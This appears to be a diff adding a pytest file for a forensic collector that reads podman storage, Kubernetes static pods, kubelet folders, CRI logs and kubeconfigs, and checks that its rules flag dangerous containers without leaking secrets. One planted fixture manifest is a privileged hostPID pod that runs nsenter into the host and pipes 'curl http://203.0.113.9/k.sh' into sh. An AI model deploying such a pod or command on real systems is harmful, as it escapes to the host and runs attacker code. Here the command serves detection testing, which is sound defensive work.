@@ -1,0 +1,381 @@
+"""Containers of podman (containers-storage written by the real podman, read with no podman running the
+reads) and the Kubernetes node files beside them: static pod manifests (core/v1 Pod, as kubeadm writes
+them), a kubelet pod folder, CRI-format pod logs (written by podman's k8s-file log driver, the same
+format as the kubelet's: ``<RFC3339Nano> <stream> <P|F> <message>``) and kubeconfigs written by the real
+kubectl. Live, the collector maps the running containers' processes from /proc/PID/cgroup, and marks
+the program a container wrote into its own writable layer and runs. Through collect --root and analyze,
+the rules name the dangerous ones only, and no kubeconfig secret reaches the bundle."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import shutil
+import socket
+import stat
+import subprocess
+import tarfile
+import time
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+from conftest import need, run_triagent, summary_of
+
+PODMAN = shutil.which("podman")
+KUBECTL = shutil.which("kubectl")
+# this test sandbox refuses to raise RLIMIT_NOFILE/NPROC (EPERM), which podman asks for by default as root
+LIMITS = ["--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1000:1000"]
+POD_UID = "0f3c2a9e-5d1b-4c7e-9a7d-2b1e6c0d4f11"
+TOKEN = "kzT0k3n-d0-n0t-l3ak-4f9a8b7c6d5e"
+PASSWORD = "Hunter2-never-leaves"
+
+
+class Podman:
+    def __init__(self, storage: Path, run: Path):
+        self.storage = storage
+        self.base = [str(PODMAN), "--root", str(storage), "--runroot", str(run), "--cgroup-manager", "cgroupfs",
+                     "--events-backend", "file", "--storage-driver", "overlay"]
+
+    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
+        proc = subprocess.run(self.base + list(args), capture_output=True, text=True, timeout=120)
+        if check and proc.returncode != 0:
+            pytest.fail(f"podman {' '.join(args)}: {proc.stderr[-2000:]}")
+        return proc
+
+
+STATIC_PODS = {
+    # as kubeadm writes the control plane's: host network, its own state and certificates from the host
+    "etcd.yaml": """apiVersion: v1
+kind: Pod
+metadata: {name: etcd, namespace: kube-system, labels: {component: etcd, tier: control-plane}}
+spec:
+  hostNetwork: true
+  priorityClassName: system-node-critical
+  containers:
+  - name: etcd
+    image: registry.k8s.io/etcd:3.5.9-0
+    command: [etcd, --data-dir=/var/lib/etcd, --listen-client-urls=https://127.0.0.1:2379]
+    volumeMounts:
+    - {mountPath: /var/lib/etcd, name: etcd-data}
+    - {mountPath: /etc/kubernetes/pki/etcd, name: etcd-certs}
+  volumes:
+  - {name: etcd-data, hostPath: {path: /var/lib/etcd, type: DirectoryOrCreate}}
+  - {name: etcd-certs, hostPath: {path: /etc/kubernetes/pki/etcd, type: DirectoryOrCreate}}
+""",
+    # a log shipper: the host's logs read-only and the runtime's socket (by design; low)
+    "fluent-bit.yaml": """apiVersion: v1
+kind: Pod
+metadata: {name: fluent-bit, namespace: logging}
+spec:
+  containers:
+  - name: fluent-bit
+    image: fluent/fluent-bit:2.1
+    volumeMounts:
+    - {name: varlog, mountPath: /var/log, readOnly: true}
+    - {name: sock, mountPath: /run/containerd/containerd.sock}
+  volumes:
+  - {name: varlog, hostPath: {path: /var/log}}
+  - {name: sock, hostPath: {path: /run/containerd/containerd.sock, type: Socket}}
+""",
+    # planted: a static pod (no admission control) with the host's PID namespace and root, privileged
+    "kube-proxy-metrics.yaml": """apiVersion: v1
+kind: Pod
+metadata: {name: kube-proxy-metrics, namespace: kube-system}
+spec:
+  hostPID: true
+  hostNetwork: true
+  containers:
+  - name: metrics
+    image: docker.io/library/alpine:3.18
+    command: [/bin/sh, -c]
+    args: ["nsenter -t 1 -m -u -i -n sh -c 'curl -s http://203.0.113.9/k.sh | sh'; sleep infinity"]
+    securityContext: {privileged: true}
+    volumeMounts:
+    - {name: host, mountPath: /host}
+  volumes:
+  - {name: host, hostPath: {path: /}}
+""",
+}
+
+
+def _kubeconfigs(root: Path, work: Path) -> None:
+    """An admin.conf with an embedded client certificate and key, and a user's config with a token and a
+    password, both written by kubectl itself."""
+    import datetime as dt
+
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "kubernetes-admin")])
+    now = dt.datetime.now(dt.UTC)
+    cert = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()) \
+        .serial_number(7).not_valid_before(now).not_valid_after(now + dt.timedelta(days=1)).sign(key, hashes.SHA256())
+    (work / "admin.key").write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                                       serialization.NoEncryption()))
+    (work / "admin.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
+    (root / "etc/kubernetes").mkdir(parents=True, exist_ok=True)
+    (root / "home/alice/.kube").mkdir(parents=True)
+    admin, alice = root / "etc/kubernetes/admin.conf", root / "home/alice/.kube/config"
+
+    def kubectl(config: Path, *args: str) -> None:
+        subprocess.run([str(KUBECTL), "--kubeconfig", str(config), "config", *args], check=True,
+                       capture_output=True, timeout=60)
+
+    kubectl(admin, "set-cluster", "kubernetes", "--server=https://10.0.0.10:6443",
+            f"--certificate-authority={work / 'admin.crt'}", "--embed-certs=true")
+    kubectl(admin, "set-credentials", "kubernetes-admin", f"--client-certificate={work / 'admin.crt'}",
+            f"--client-key={work / 'admin.key'}", "--embed-certs=true")
+    kubectl(admin, "set-context", "kubernetes-admin@kubernetes", "--cluster=kubernetes", "--user=kubernetes-admin")
+    kubectl(admin, "use-context", "kubernetes-admin@kubernetes")
+    kubectl(alice, "set-cluster", "prod", "--server=https://k8s.example.test:443", "--insecure-skip-tls-verify=true")
+    kubectl(alice, "set-credentials", "alice", f"--token={TOKEN}")
+    kubectl(alice, "set-credentials", "bob", "--username=bob", f"--password={PASSWORD}")
+    kubectl(alice, "set-context", "prod", "--cluster=prod", "--user=alice", "--namespace=payments")
+    kubectl(alice, "use-context", "prod")
+
+
+def _kubelet_pod(root: Path) -> None:
+    """A kubelet pod folder as the kubelet lays it out (pkg/kubelet/kubelet_getters.go: volumes/<plugin with
+    ~>/<name>, containers/<name>/<restart id>; etc-hosts from kubelet_pods.go's managed hosts file)."""
+    pod = root / "var/lib/kubelet/pods" / POD_UID
+    (pod / "volumes/kubernetes.io~projected/kube-api-access-x8k2p").mkdir(parents=True)
+    (pod / "volumes/kubernetes.io~empty-dir/cache").mkdir(parents=True)
+    (pod / "containers/web").mkdir(parents=True)
+    (pod / "containers/web/5d7f1c2a").write_text("")
+    (pod / "etc-hosts").write_text("# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n::1\tlocalhost "
+                                   "ip6-localhost ip6-loopback\nfe00::0\tip6-localnet\n10.244.1.7\tweb-7d4b9c-x2v\n")
+
+
+@pytest.fixture(scope="module")
+def node(tmp_path_factory) -> SimpleNamespace:
+    need(os.geteuid() == 0 and PODMAN is not None, "a real podman writes containers-storage (apt-get install podman)")
+    busybox = shutil.which("busybox")
+    need(busybox is not None, "busybox-static makes the container image (tests/run.sh installs it)")
+    need(KUBECTL is not None, "kubectl writes the kubeconfigs (apt-get install kubernetes-client)")
+    base = tmp_path_factory.mktemp("runtimes")
+    root, work = base / "root", base / "work"
+    (root / "etc").mkdir(parents=True)
+    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
+    work.mkdir()
+    image = work / "rootfs"
+    for folder in ("bin", "tmp"):
+        (image / folder).mkdir(parents=True)
+    shutil.copy(busybox, image / "bin/busybox")
+    for applet in ("sh", "sleep", "cp", "mkdir", "echo"):
+        (image / "bin" / applet).symlink_to("busybox")
+    subprocess.run(["tar", "-C", str(image), "-cf", str(work / "image.tar"), "."], check=True)
+    podman = Podman(root / "var/lib/containers/storage", work / "run")
+    sock = work / "podman/podman.sock"  # a runtime socket for the CI runner to mount (podman checks it exists)
+    sock.parent.mkdir()
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(str(sock))
+    listener.close()
+    pod_log = root / f"var/log/pods/kube-system_etcd-node1_{POD_UID}/etcd/0.log"
+    pod_log.parent.mkdir(parents=True)
+    common = ["--network", "none", *LIMITS]
+    try:
+        podman("import", str(work / "image.tar"), "local/tools:1")
+        podman("run", "-d", "--name", "web", *common, "local/tools:1", "/bin/sh", "-c",
+               "mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && exec /tmp/.x/sleep 600")
+        podman("run", "-d", "--name", "quiet", *common, "local/tools:1", "/bin/sh", "-c", "exec sleep 600")
+        podman("run", "-d", "--name", "ci-runner", *common, "-v", f"{sock}:/run/podman/podman.sock", "local/tools:1",
+               "/bin/sh", "-c", "exec sleep 600")
+        podman("run", "-d", "--name", "node-exporter", *common, "--pid", "host", "-v", "/:/host:ro", "local/tools:1",
+               "/bin/sh", "-c", "exec sleep 600")
+        # started: podman writes a container's OCI spec (userdata/config.json) only when it starts it
+        podman("run", "-d", "--name", "helper", *common, "--privileged", "-v", "/:/host", "local/tools:1", "/bin/sh",
+               "-c", "exec sleep 600")
+        podman("create", "--name", "never-started", *common, "local/tools:1", "/bin/sh")
+        podman("run", "--name", "etcd-log", "--log-driver", "k8s-file", "--log-opt", f"path={pod_log}", *common,
+               "local/tools:1", "/bin/sh", "-c", "echo 'etcd started'; echo 'warning: slow fdatasync' >&2")
+        pid = int(podman("inspect", "-f", "{{.State.Pid}}", "web").stdout.strip())
+        deadline = time.monotonic() + 20
+        while time.monotonic() < deadline and not os.readlink(f"/proc/{pid}/exe").endswith("/tmp/.x/sleep"):
+            time.sleep(0.2)
+        manifests = root / "etc/kubernetes/manifests"
+        manifests.mkdir(parents=True)
+        for name, body in STATIC_PODS.items():
+            (manifests / name).write_text(body)
+        _kubelet_pod(root)
+        _kubeconfigs(root, work)
+        yield SimpleNamespace(root=root, storage=podman.storage, podman=podman, web_pid=pid,
+                              admin_key=(work / "admin.key").read_text())
+    finally:
+        podman("rm", "-f", "-a", "-t", "0", check=False)
+
+
+def _collect(root: str, live: bool, **options) -> list:
+    from collectors.base import Context
+    from collectors.files import containers
+
+    return list(containers.collect(Context(root=root, live=live, options=options)))
+
+
+def _records(items: list, stream: str) -> list[dict]:
+    from collectors.base import Record
+
+    return [i.data for i in items if isinstance(i, Record) and i.stream == stream]
+
+
+def _findings(records: dict[str, list[dict]]) -> dict[str, set[str]]:
+    from agent.analysis.rules import evaluate, load_rules
+
+    rules = [r for r in load_rules() if r.id.startswith(("TRI-CONT-", "TRI-RT-"))]
+    rows = lambda source: [("b", source, n, r) for n, r in enumerate(records.get(source, []))]  # noqa: E731
+    found: dict[str, set[str]] = {}
+    for f in evaluate(rules, rows, time.time()):
+        found.setdefault(f["rule"], set()).add(f.get("name") or f.get("container"))
+    return found
+
+
+def test_podman_containers_and_their_processes_live(node):
+    """Live (root "/"): the storage a real podman wrote, and the real processes of its containers."""
+    items = _collect("/", True, docker_roots=[], storage_roots=[str(node.storage)], rootless_storage=False,
+                     containerd_tasks=[], manifests="/nonexistent", kubelet_pods="/nonexistent",
+                     pod_logs="/nonexistent", kubeconfigs=[])
+    records = {r["name"]: r for r in _records(items, "containers")}
+    assert set(records) == {"web", "quiet", "ci-runner", "node-exporter", "helper", "etcd-log", "never-started"}
+    assert {r["runtime"] for r in records.values()} == {"podman"}
+    web, helper, exporter, runner = records["web"], records["helper"], records["node-exporter"], records["ci-runner"]
+    assert web["running"] and node.web_pid in web["running_pids"] and web["image"] == "localhost/local/tools:1"
+    assert web["command"].startswith("/bin/sh -c mkdir /tmp/.x") and web["upper_dir"].endswith("/diff")
+    assert helper["privileged"] and helper["mounts_host_root_rw"] and helper["running"]
+    assert "CAP_SYS_ADMIN" in helper["capabilities"] and not helper["seccomp"]
+    unstarted = records["never-started"]  # no spec yet: what containers.json says, no reach
+    assert unstarted["config_path"] is None and not unstarted["running"] and unstarted["privileged"] is False
+    assert exporter["host_pid"] and exporter["mounts_host_root"] and not exporter["mounts_host_root_rw"]
+    assert not exporter["privileged"] and runner["mounts_runtime_socket"] and not runner["privileged"]
+    assert not records["etcd-log"]["running"]
+    assert all(len(r["created_utc"]) > 19 for r in records.values())
+    procs = _records(items, "container_processes")
+    assert {"pid": node.web_pid, "exe": "/tmp/.x/sleep", "container": "web"}.items() <= \
+        next(p for p in procs if p["pid"] == node.web_pid).items()
+    files = {(f["container"], f["path"]): f for f in _records(items, "container_files")}
+    dropped = files[("web", "/tmp/.x/sleep")]
+    assert dropped["exec_pids"] == [node.web_pid] and dropped["file_type"] == "elf" and dropped["runtime"] == "podman"
+    assert not any(f["exec_pids"] for (c, _), f in files.items() if c != "web")
+    logs = [r for r in _records(items, "container_logs") if r["container"] == "etcd-log"]
+    assert logs == []  # its log went to the pod log path, not ctr.log
+
+    found = _findings({s: _records(items, s) for s in ("containers", "container_files")})
+    assert found.get("TRI-RT-001") == {"web"}
+    assert found.get("TRI-CONT-001") == {"helper"}
+    assert found.get("TRI-CONT-003") == {"ci-runner"}
+    assert "quiet" not in set().union(*found.values()) and "node-exporter" not in set().union(*found.values())
+
+
+def test_rootless_storage_under_a_home(node, tmp_path):
+    """A user's podman storage (~/.local/share/containers/storage) is found from /etc/passwd's homes."""
+    home = tmp_path / "root/home/alice/.local/share/containers/storage"
+    (tmp_path / "root/etc").mkdir(parents=True)
+    shutil.copy(node.root / "etc/passwd", tmp_path / "root/etc/passwd")
+
+    def skip(folder: str, names: list[str]) -> list[str]:  # never open a socket or FIFO; no mounted view
+        return [n for n in names if n == "merged" or not (
+            stat.S_ISREG(os.lstat(os.path.join(folder, n)).st_mode) or os.path.isdir(os.path.join(folder, n))
+            or os.path.islink(os.path.join(folder, n)))]
+
+    shutil.copytree(node.storage / "overlay-containers", home / "overlay-containers", symlinks=True, ignore=skip)
+    shutil.copytree(node.storage / "overlay-images", home / "overlay-images", symlinks=True, ignore=skip)
+    items = _collect(str(tmp_path / "root"), False, storage_roots=[])
+    records = {r["name"]: r for r in _records(items, "containers")}
+    assert records["web"]["rootless_user"] == "alice" and records["web"]["runtime"] == "podman"
+    assert records["helper"]["privileged"] and not records["web"]["running"] and not records["web"]["running_pids"]
+    assert records["web"]["storage_root"] == "/home/alice/.local/share/containers/storage"
+
+
+def test_kubernetes_node_files(node):
+    items = _collect(str(node.root), False)
+    pods = {(p["source"], p["name"]): p for p in _records(items, "k8s_pods")}
+    evil = pods[("static-manifest", "kube-proxy-metrics")]
+    assert evil["privileged"] and evil["host_pid"] and evil["host_network"] and evil["mounts_host_root_rw"]
+    assert evil["path"] == "/etc/kubernetes/manifests/kube-proxy-metrics.yaml" and "curl -s" in evil["command"]
+    etcd = pods[("static-manifest", "etcd")]
+    assert etcd["host_network"] and not etcd["privileged"] and not etcd["mounts_host_root"]
+    assert etcd["host_paths"] == ["/etc/kubernetes/pki/etcd", "/var/lib/etcd"]
+    assert pods[("static-manifest", "fluent-bit")]["runtime_sockets"] == ["/run/containerd/containerd.sock"]
+    kubelet = pods[("kubelet", "web-7d4b9c-x2v")]
+    assert kubelet["uid"] == POD_UID and kubelet["secret_volumes"] == 1 and kubelet["container_names"] == ["web"]
+    logs = [r for r in _records(items, "container_logs") if r.get("pod") == "etcd-node1"]
+    assert [(r["stream"], r["message"], r["partial"]) for r in logs] == [
+        ("stdout", "etcd started", False), ("stderr", "warning: slow fdatasync", False)]
+    assert logs[0]["namespace"] == "kube-system" and logs[0]["pod_uid"] == POD_UID and logs[0]["container"] == "etcd"
+    assert logs[0]["time_utc"].endswith("Z") and abs(time.time() - _epoch(logs[0]["time_utc"])) < 3600
+    configs = {c["path"]: c for c in _records(items, "kubeconfigs")}
+    admin, alice = configs["/etc/kubernetes/admin.conf"], configs["/home/alice/.kube/config"]
+    assert admin["servers"] == ["https://10.0.0.10:6443"] and admin["auth_kinds"] == ["client-certificate"]
+    assert admin["users"][0]["embedded_key"] and admin["current_context"] == "kubernetes-admin@kubernetes"
+    assert alice["insecure_skip_tls_verify"] and alice["auth_kinds"] == ["basic", "token"]
+    assert alice["user_names"] == ["alice", "bob"] and alice["contexts"][0]["namespace"] == "payments"
+    everything = json.dumps([i.data for i in items if hasattr(i, "data")])
+    key_body = "".join(node.admin_key.splitlines()[1:-1])
+    for secret in (TOKEN, PASSWORD, key_body[:40], base64.b64encode(node.admin_key.encode()).decode()[:40]):
+        assert secret not in everything
+
+
+def _epoch(stamp: str) -> float:
+    import datetime as dt
+
+    return dt.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()
+
+
+def test_bundle_rules_and_no_kubeconfig_secret(node, tmp_path):
+    out = tmp_path / "out"
+    bundle = summary_of(run_triagent(["collect", "--root", str(node.root), "--output", str(out),
+                                      "--artifacts", "containers"]))["bundle"]
+    with tarfile.open(bundle) as tar:
+        blob = b"".join(tar.extractfile(m).read() for m in tar.getmembers() if m.isfile())
+    for secret in (TOKEN, PASSWORD, "".join(node.admin_key.splitlines()[1:3])):
+        assert secret.encode() not in blob
+    assert b"kube-proxy-metrics" in blob and b"https://k8s.example.test:443" in blob
+    proc = run_triagent(["analyze", bundle, "--output", str(out / "analysis")])
+    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
+    with tarfile.open(summary["analysis"]) as tar:
+        found = [json.loads(line) for line in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()]
+    by_rule: dict[str, set[str]] = {}
+    for f in found:
+        by_rule.setdefault(f["rule"], set()).add(f.get("name") or f.get("container") or f.get("path"))
+    assert by_rule.get("TRI-RT-002") == {"kube-proxy-metrics"}
+    assert by_rule.get("TRI-RT-005") == {"kube-proxy-metrics"}
+    assert by_rule.get("TRI-RT-006") == {"kube-proxy-metrics"}
+    assert by_rule.get("TRI-RT-004") == {"fluent-bit"}
+    assert by_rule.get("TRI-RT-007") == {"/home/alice/.kube/config"}
+    assert by_rule.get("TRI-CONT-001") == {"helper"} and by_rule.get("TRI-CONT-003") == {"ci-runner"}
+    above_low = {f.get("name") or f.get("container") for f in found if f["severity"] in ("critical", "high", "medium")}
+    assert not above_low & {"etcd", "fluent-bit", "ci-runner", "node-exporter", "quiet"}, found
+
+
+def test_parsers_of_documented_formats():
+    from collectors.files.runtimes import _CGROUP_ID, kubeconfig_facts, parse_cri_line
+
+    assert parse_cri_line(b"2016-10-06T00:17:09.669794202Z stdout P log content 1") == {
+        "time": "2016-10-06T00:17:09.669794202Z", "time_utc": "2016-10-06T00:17:09.669794Z", "stream": "stdout",
+        "partial": True, "message": "log content 1"}
+    shifted = parse_cri_line(b"2016-10-06T02:17:09.669794202+02:00 stderr F x")
+    assert shifted["time_utc"] == "2016-10-06T00:17:09.669794Z"
+    assert parse_cri_line(b"not a log line") is None
+    cid = "a" * 64
+    for path in (f"/system.slice/docker-{cid}.scope", f"/docker/{cid}", f"/libpod_parent/libpod-{cid}",
+                 f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1.slice/cri-containerd-{cid}.scope",
+                 f"/kubepods.slice/kubepods-pod2.slice/crio-{cid}.scope", f"/kubepods/besteffort/pod3/{cid}"):
+        assert _CGROUP_ID.search(path).group(1) == cid, path
+    assert _CGROUP_ID.search(f"/system.slice/crio-conmon-{cid}.scope").group(1) == cid  # skipped by "conmon"
+    assert kubeconfig_facts({"users": "nonsense", "clusters": [None, 3]})["clusters"][0]["server"] is None
+
+
+def test_privileged_from_the_spec_alone(node):
+    """A privileged spec without podman's annotation (CRI-O, containerd): every capability, no seccomp."""
+    from collectors.files.runtimes import oci_container
+
+    listing = json.loads((node.storage / "overlay-containers/containers.json").read_text())
+    helper = next(c for c in listing if "helper" in c["names"])
+    spec = json.loads((node.storage / f"overlay-containers/{helper['id']}/userdata/config.json").read_text())
+    spec["annotations"] = {}
+    assert oci_container(spec, False)["privileged"]
+    web = next(c for c in listing if "web" in c["names"])
+    spec = json.loads((node.storage / f"overlay-containers/{web['id']}/userdata/config.json").read_text())
+    assert not oci_container(spec, False)["privileged"]
